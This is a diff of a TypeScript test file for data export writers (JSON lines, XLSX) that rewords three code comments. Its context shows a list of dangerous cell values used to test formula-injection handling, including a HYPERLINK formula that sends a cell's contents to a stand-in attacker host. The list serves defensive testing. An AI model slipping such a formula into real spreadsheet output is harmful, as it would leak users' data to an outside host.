@@ -36,7 +36,7 @@ const oneOfEach: Cell[] = [
   text(null),
 ]
 
-/** What a spreadsheet would run, or not know what to do with. */
+/** Cell values that a spreadsheet would run or misread. */
 const DANGEROUS = [
   '=1+1',
   '=HYPERLINK("https://evil.example?"&A1,"click")',
@@ -151,7 +151,7 @@ test('JSON lines hold one object per line, typed, by stable keys', async () => {
 describe('XLSX', () => {
   type Read = { place: string; type: string | undefined; style: string; text: string }
 
-  /** By a reader of ZIP files and one of XML that know nothing of the writer. */
+  /** Read back with a ZIP reader and an XML reader that share no code with the writer. */
   function sheetsOf(file: Buffer): { cells: Read[]; parts: Record<string, string> }[] {
     const parts = Object.fromEntries(
       Object.entries(unzipSync(new Uint8Array(file))).map(([name, bytes]) => [
@@ -256,7 +256,7 @@ describe.each([
   ['JSON lines', writeJsonLines],
   ['XLSX', writeXlsx],
 ] as const)('%s', (_name, writer) => {
-  /** Tells how many rows were taken, and whether the source was closed. */
+  /** Reports how many rows were consumed, and whether the source was closed. */
   function watched(limit: number, failAt = Number.POSITIVE_INFINITY) {
     const seen = { taken: 0, isClosed: false }
     async function* batches(): AsyncGenerator<Cell[][]> {
